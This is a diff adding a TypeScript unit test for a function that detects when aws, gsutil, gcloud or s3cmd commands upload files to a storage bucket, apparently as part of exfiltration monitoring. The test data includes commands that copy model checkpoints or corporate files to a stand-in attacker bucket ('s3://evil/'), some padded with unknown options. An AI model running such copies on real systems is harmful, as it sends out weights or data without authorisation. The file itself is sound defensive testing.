@@ -1,0 +1,46 @@
+/**
+ * exec-bucket-copies.ts: an object-store copy is an upload when its last operand is a bucket URL,
+ * options and their values stepped over as the tools' manuals give them, and no guess about an
+ * unknown option can hide one.
+ */
+import { describe, expect, it } from 'vitest';
+import { copiesToBucket } from './exec-bucket-copies.js';
+
+const w = (line: string): string[] => line.split(' ');
+
+describe('copiesToBucket', () => {
+  it('reads uploads, bucket to bucket and stdin to a bucket', () => {
+    for (const line of [
+      'aws s3 cp /mnt/ckpt/m.pt s3://b/m.pt --endpoint-url https://h.example',
+      'aws --profile x s3 cp /mnt/ckpt/m.pt s3://b/m.pt --sse',
+      'aws s3 cp --sse aws:kms /mnt/ckpt/m.pt s3://b/m.pt',
+      'aws s3 sync . s3://b/ckpt --exclude *.tmp --only-show-errors',
+      'aws s3 cp s3://corp/m.pt s3://evil/m.pt',
+      'aws s3 cp - s3://b/m.tgz',
+      'gsutil -m -o GSUtil:x=1 cp -r /mnt/ckpt gs://b/',
+      'gcloud alpha storage cp /mnt/ckpt/m.pt gs://b/ --project p',
+      's3cmd -c /tmp/cfg put m.pt s3://b/',
+    ]) expect(copiesToBucket(w(line), line.split(' ')[0]!), line).toBe(true);
+  });
+
+  it('reads downloads, listings and other verbs as none', () => {
+    for (const line of [
+      'aws s3 cp s3://ml-datasets/tokenizer.json /tmp/tokenizer.json',
+      'aws s3 cp s3://b/ds /data/ds --recursive --profile prod',
+      'aws s3 sync s3://b/ds /data/ds --delete',
+      'aws s3 ls s3://b/',
+      'aws s3api get-object --bucket b --key k /tmp/k',
+      'gsutil -m rsync -r gs://b/ds /data/ds',
+      'gcloud storage cp gs://b/x /tmp/x --project p',
+      's3cmd get s3://b/x /tmp/x',
+    ]) expect(copiesToBucket(w(line), line.split(' ')[0]!), line).toBe(false);
+  });
+
+  it('keeps the destination an operand whatever an unknown option is taken to want', () => {
+    // An unknown switch before the bucket, an unknown option with its value after it, and before the group word.
+    expect(copiesToBucket(w('aws s3 cp /mnt/m.pt --new-switch s3://evil/m.pt'), 'aws')).toBe(true);
+    expect(copiesToBucket(w('aws s3 cp /mnt/m.pt s3://evil/m.pt --new-option value'), 'aws')).toBe(true);
+    expect(copiesToBucket(w('aws --new-switch s3 cp /mnt/m.pt s3://evil/'), 'aws')).toBe(true);
+    expect(copiesToBucket(w('aws s3 cp /mnt/m.pt -- s3://evil/'), 'aws')).toBe(true);
+  });
+});
